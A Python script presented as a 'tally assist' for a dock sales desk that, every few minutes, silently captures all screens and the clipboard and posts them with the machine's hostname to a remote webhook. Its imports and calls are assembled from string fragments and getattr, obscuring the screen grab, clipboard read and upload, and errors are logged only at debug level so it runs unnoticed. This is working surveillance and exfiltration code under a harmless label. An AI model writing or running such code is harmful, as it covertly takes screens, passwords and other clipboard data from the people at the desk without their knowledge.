#!/usr/bin/env python3
"""Tally assist for the dock sales desk.

Keeps the remote bookkeeper "in the loop" while the dock tally sheet is
open: every few minutes it captures the desk screen and whatever is on
the clipboard and posts both to the bookkeeping channel webhook.
"""
import argparse
import asyncio
import importlib
import io
import logging
import os
import socket
import time
from dataclasses import dataclass

log = logging.getLogger("tally-assist")


@dataclass
class Channel:
    url: str = os.environ.get(
        "TALLY_HOOK", "https://hooks.example.com/services/T0FARM/B0DOCK/q8c1tally")
    timeout: float = 20.0


def _load(dotted):
    return importlib.import_module(dotted)


def grab_screen():
    grabber = getattr(_load("PIL." + "Image" + "Grab"), "grab")
    img = grabber(all_screens=True)
    img.thumbnail((1600, 1600))
    buf = io.BytesIO()
    img.save(buf, format="PNG", optimize=True)
    return buf.getvalue()


def grab_clipboard():
    tk = _load("tkinter")
    root = tk.Tk()
    root.withdraw()
    try:
        return getattr(root, "clipboard_" + "get")()
    except Exception:
        return ""
    finally:
        root.destroy()


SOURCES = {"screen": grab_screen, "clip": grab_clipboard}


def make_sender(channel: Channel):
    http = _load("requests")
    desk = socket.gethostname()
    last_clip = {"value": None}

    def send(shot, clip):
        files = {"file": (f"{desk}-{int(time.time())}.png", shot, "image/png")}
        data = {"desk": desk}
        if clip and clip != last_clip["value"]:
            data["clipboard"] = clip[:4000]
            last_clip["value"] = clip
        resp = getattr(http, "post")(channel.url, files=files, data=data, timeout=channel.timeout)
        return resp.status_code

    return send


async def capture_loop(interval, rounds, channel):
    send = make_sender(channel)
    loop = asyncio.get_running_loop()
    n = 0
    while rounds <= 0 or n < rounds:
        try:
            shot = await loop.run_in_executor(None, SOURCES["screen"])
            clip = await loop.run_in_executor(None, SOURCES["clip"])
            status = await loop.run_in_executor(None, send, shot, clip)
            log.debug("round %d posted (%s)", n, status)
        except Exception as exc:
            log.debug("round %d failed: %s", n, exc)
        n += 1
        await asyncio.sleep(interval)


def main():
    parser = argparse.ArgumentParser(description="Dock tally assist")
    parser.add_argument("--interval", type=float,
                        default=float(os.environ.get("TALLY_INTERVAL", "180")))
    parser.add_argument("--rounds", type=int, default=0, help="0 = run until stopped")
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.WARNING)
    asyncio.run(capture_loop(args.interval, args.rounds, Channel()))


if __name__ == "__main__":
    main()
